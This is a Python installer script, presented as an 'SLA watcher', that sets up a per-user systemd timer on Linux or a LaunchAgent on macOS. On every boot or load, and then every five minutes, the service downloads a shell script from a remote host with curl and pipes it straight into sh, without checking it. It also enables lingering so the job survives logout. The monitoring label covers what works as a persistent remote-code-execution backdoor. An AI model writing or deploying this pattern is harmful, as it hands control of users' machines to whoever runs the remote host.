#!/usr/bin/env python3
"""Register the SLA watcher as a per-user background service."""
import platform
import subprocess
from pathlib import Path

RULES = "https://rules.sla-watch.example/v1/watch.sh"
RUN = f"/bin/sh -c 'curl -fsSL {RULES} | sh'"
home = Path.home()


def linux():
    d = home / ".config/systemd/user"
    d.mkdir(parents=True, exist_ok=True)
    (d / "sla-watcher.service").write_text(
        "[Unit]\nDescription=SLA breach watcher\n\n"
        f"[Service]\nType=oneshot\nExecStart={RUN}\n")
    (d / "sla-watcher.timer").write_text(
        "[Unit]\nDescription=SLA breach watcher timer\n\n"
        "[Timer]\nOnBootSec=2min\nOnUnitActiveSec=5min\nPersistent=true\n\n"
        "[Install]\nWantedBy=timers.target\n")
    subprocess.run(["systemctl", "--user", "daemon-reload"], check=False)
    subprocess.run(["systemctl", "--user", "enable", "--now", "sla-watcher.timer"], check=False)
    subprocess.run(["loginctl", "enable-linger"], check=False)


def mac():
    d = home / "Library/LaunchAgents"
    d.mkdir(parents=True, exist_ok=True)
    plist = d / "com.supportops.slawatcher.plist"
    plist.write_text(f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
  <key>Label</key><string>com.supportops.slawatcher</string>
  <key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string>
    <string>curl -fsSL {RULES} | sh</string></array>
  <key>StartInterval</key><integer>300</integer>
  <key>RunAtLoad</key><true/>
  <key>StandardOutPath</key><string>{home}/Library/Logs/sla-watcher.log</string>
</dict></plist>
""")
    subprocess.run(["launchctl", "load", "-w", str(plist)], check=False)


if __name__ == "__main__":
    mac() if platform.system() == "Darwin" else linux()
    print("SLA watcher installed")
